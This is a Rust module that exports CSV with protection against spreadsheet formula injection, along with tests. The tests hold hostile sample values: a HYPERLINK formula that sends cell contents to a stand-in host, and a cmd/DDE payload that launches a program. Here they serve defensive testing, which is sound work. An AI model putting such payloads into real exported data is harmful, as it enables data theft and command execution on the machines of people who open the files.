//! Tables for people to open in a spreadsheet program: CSV in which no value is a formula, whoever wrote it.
//!
//! A name like `=HYPERLINK(...)` or `+cmd|...` would be run by the program of whoever opens the file. Such a value gets an apostrophe in
//! front, which is how spreadsheet programs themselves mark a text. Everything that leaves as a table goes through [`csv`].

use serde::{Deserialize, Serialize};
use std::borrow::Cow;

/// A table as spreadsheet programs read it: UTF-8 with its mark, which they need to know that it is, commas, and CRLF.
pub fn csv<V: AsRef<str>>(rows: impl IntoIterator<Item = impl IntoIterator<Item = V>>) -> String {
    let mut csv = String::from("\u{feff}");
    for row in rows {
        for (place, of) in row.into_iter().enumerate() {
            if place > 0 {
                csv.push(',');
            }
            csv.push_str(&value(of.as_ref()));
        }
        csv.push_str("\r\n");
    }
    csv
}

/// A value as it stands in a line: no formula, and quoted where it has to be.
fn value(of: &str) -> Cow<'_, str> {
    let of = harmless(of);
    if !of.contains([',', ';', '\t', '"', '\r', '\n']) {
        return of;
    }
    Cow::Owned(format!("\"{}\"", of.replace('"', "\"\"")))
}

/// A text that no spreadsheet program takes for a formula. Amounts stay what they are.
pub fn harmless(of: &str) -> Cow<'_, str> {
    if is_amount(of) || !begins_a_formula(of) { Cow::Borrowed(of) } else { Cow::Owned(format!("'{of}")) }
}

/// Some programs look behind spaces, and at the wide forms of the characters too.
fn begins_a_formula(text: &str) -> bool {
    let begins = |text: &str| text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
    begins(text) || begins(text.trim_start())
}

fn is_amount(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    let is_number = |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit());
    let (whole, decimals) = digits.split_once('.').unwrap_or((digits, "0"));
    is_number(whole) && is_number(decimals)
}

/// A table to become a workbook; what writes it lies in a program of its own, so it travels as bytes.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table {
    /// The sheet's name.
    pub sheet: String,
    pub columns: Vec<Heading>,
    pub rows: Vec<Vec<String>>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Heading {
    pub text: String,
    pub holds: Holds,
}

/// How a column's values are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Holds {
    Text,
    /// Plain decimals; what isn't one is written as text.
    Number,
}

impl Table {
    /// `None` only where memory doesn't suffice.
    pub fn to_bytes(&self) -> Option<Vec<u8>> {
        postcard::to_allocvec(self).ok()
    }

    pub fn from_bytes(bytes: &[u8]) -> Option<Self> {
        postcard::from_bytes(bytes).ok()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_value_is_a_formula() {
        for wicked in [
            "=HYPERLINK(\"https://elsewhere.example/?\"&A1)",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            " =1",
            "\r=1",
            "\u{a0}=1",
            "＝1+1",
            "-",
            "+49 170 1234567",
        ] {
            let written = value(wicked);
            assert!(written.trim_start_matches('"').starts_with('\''), "{written}");
        }
    }

    #[test]
    fn what_is_none_stays_as_it_is() {
        for plain in ["000123456789", "-5.00", "12500", "Müller & Söhne", "a=b", "x-y", "", "'quoted'"] {
            assert_eq!(value(plain), plain);
        }
        assert_eq!(value("-5.00-2"), "'-5.00-2");
    }

    #[test]
    fn values_stay_in_their_cells() {
        let rows = [vec!["ID", "Name"], vec!["1", "Pipes 12\", Inc."], vec!["2", "a;b\r\n=c"]];
        assert_eq!(csv(rows), "\u{feff}ID,Name\r\n1,\"Pipes 12\"\", Inc.\"\r\n2,\"a;b\r\n=c\"\r\n");
        assert_eq!(csv([["x,=1"]]), "\u{feff}\"x,=1\"\r\n");
    }
}
